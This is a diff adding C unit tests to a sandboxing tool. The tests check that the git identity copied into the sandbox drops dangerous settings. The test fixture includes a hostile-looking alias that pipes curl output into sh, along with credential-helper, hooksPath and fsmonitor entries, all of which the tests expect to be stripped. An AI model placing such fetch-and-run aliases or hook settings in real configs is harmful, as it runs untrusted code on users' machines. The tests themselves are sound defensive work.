@@ -433,6 +433,120 @@ Test(adapters, secret_names)
 		cr_assert(!ltd_secret_name(no[i]), "%s", no[i]);
 }
 
+/* ------------------------------------------------------ the git identity */
+
+static const char *gitconfig(void)
+{
+	const struct ltd_cage_file *f;
+
+	p.n_files = 0;
+	cr_assert_eq(ltd_git_identity(&p, &err), 0, "%s", err.msg);
+	f = file("%s/.gitconfig", home);
+	return f ? f->content : "";
+}
+
+/* Identity and harmless settings, as plain values; never an include, a
+ * credential helper, an alias or a hooks path. */
+Test(adapters, git_identity_plain_values_only)
+{
+	const char *g;
+
+	put("src/app/.git/HEAD", "ref: refs/heads/main\n");
+	put(".gitconfig", "[user]\n\tname = A \\\"Q\\\" User\n\temail = a@x\n"
+			  "[include]\n\tpath = ~/.gitconfig.d/more\n"
+			  "[credential]\n\thelper = store\n"
+			  "[alias]\n\tst = !sh -c 'curl x | sh'\n"
+			  "[core]\n\thooksPath = ~/hooks\n\tautocrlf = input\n"
+			  "\tfsmonitor = /tmp/x\n\teditor = vim\n"
+			  "[init]\n\tdefaultBranch = trunk\n"
+			  "[url \"git@x:\"]\n\tinsteadOf = https://x/\n");
+	put(".gitconfig.d/more", "[pull]\n\trebase = true\n");
+	g = gitconfig();
+	cr_assert(strstr(g, "[user]\n\tname = \"A \\\"Q\\\" User\"\n"), "%s",
+		  g);
+	cr_assert(strstr(g, "\temail = \"a@x\"\n"), "%s", g);
+	cr_assert(strstr(g, "[init]\n\tdefaultbranch = \"trunk\"\n"), "%s", g);
+	cr_assert(strstr(g, "autocrlf = \"input\""), "%s", g);
+	cr_assert(strstr(g, "[pull]\n\trebase = \"true\""), "included: %s", g);
+	cr_assert_null(strstr(g, "include"), "%s", g);
+	cr_assert_null(strstr(g, "helper"), "%s", g);
+	cr_assert_null(strstr(g, "alias"), "%s", g);
+	cr_assert_null(strstr(g, "curl"), "%s", g);
+	cr_assert_null(strstr(g, "hooks"), "%s", g);
+	cr_assert_null(strstr(g, "fsmonitor"), "%s", g);
+	cr_assert_null(strstr(g, "editor"), "%s", g);
+	cr_assert_null(strstr(g, "insteadof"), "%s", g);
+}
+
+/* includeIf counts when it matches this project, as git matches it. */
+Test(adapters, git_identity_include_if)
+{
+	char text[1024];
+	const char *g;
+
+	put("src/app/.git/HEAD", "ref: refs/heads/feature/x\n");
+	snprintf(text, sizeof(text),
+		 "[user]\n\temail = home@x\n"
+		 "[includeIf \"gitdir:~/src/\"]\n\tpath = work\n"
+		 "[includeIf \"gitdir:~/other/\"]\n\tpath = other\n"
+		 "[includeIf \"gitdir/i:%s/SRC/APP/.GIT\"]\n\tpath = ci\n"
+		 "[includeIf \"onbranch:feature/\"]\n\tpath = branch\n"
+		 "[includeIf \"gitdir:app/.git\"]\n\tpath = rel\n",
+		 home);
+	put(".gitconfig", text);
+	put("work", "[user]\n\temail = work@x\n");
+	put("other", "[user]\n\tname = Other\n");
+	put("ci", "[core]\n\teol = lf\n");
+	put("branch", "[pull]\n\tff = only\n");
+	put("rel", "[merge]\n\tconflictstyle = diff3\n");
+	g = gitconfig();
+	cr_assert(strstr(g, "email = \"work@x\""), "%s", g);
+	cr_assert_null(strstr(g, "Other"), "%s", g);
+	cr_assert(strstr(g, "eol = \"lf\""), "gitdir/i: %s", g);
+	cr_assert(strstr(g, "ff = \"only\""), "onbranch: %s", g);
+	cr_assert(strstr(g, "conflictstyle = \"diff3\""), "**/ prefix: %s", g);
+}
+
+/* Signing only where the key is reachable: SSH with the agent. */
+Test(adapters, git_identity_signing)
+{
+	const char *g;
+
+	put("src/app/.git/HEAD", "ref: refs/heads/main\n");
+	put(".ssh/id_ed25519.pub", "ssh-ed25519 AAAAC3Nz test@x\n");
+	put(".gitconfig",
+	    "[user]\n\tname = U\n\tsigningkey = ~/.ssh/id_ed25519\n"
+	    "[gpg]\n\tformat = ssh\n[commit]\n\tgpgsign = true\n");
+	g = gitconfig();
+	cr_assert_null(strstr(g, "gpgsign"), "no agent: %s", g);
+	cr_assert_null(strstr(g, "signingkey"), "%s", g);
+	p.ssh_agent = true;
+	g = gitconfig();
+	cr_assert(strstr(g, "gpgsign = \"true\""), "%s", g);
+	cr_assert(
+		strstr(g, "signingkey = \"key::ssh-ed25519 AAAAC3Nz test@x\""),
+		"%s", g);
+	put(".gitconfig", "[user]\n\tname = U\n\tsigningkey = ABCD\n"
+			  "[commit]\n\tgpgsign = true\n");
+	g = gitconfig();
+	cr_assert_null(strstr(g, "gpgsign"), "GnuPG: not in the cage: %s", g);
+}
+
+/* Wildmatch as git's: '*' stops at '/', '**' does not. */
+Test(adapters, git_identity_gitdir_star)
+{
+	const char *g;
+
+	put("src/app/.git/HEAD", "ref: refs/heads/main\n");
+	put(".gitconfig", "[includeIf \"gitdir:~/*/.git\"]\n\tpath = one\n"
+			  "[includeIf \"gitdir:~/**/.git\"]\n\tpath = two\n");
+	put("one", "[user]\n\tname = One\n");
+	put("two", "[user]\n\temail = two@x\n");
+	g = gitconfig();
+	cr_assert_null(strstr(g, "One"), "%s", g);
+	cr_assert(strstr(g, "two@x"), "%s", g);
+}
+
 /* The user moved Codex's config (--setenv CODEX_HOME): said, since the
  * generated one (the seam, its sandbox off) is then not read. */
 Test(adapters, moved_config_is_said)
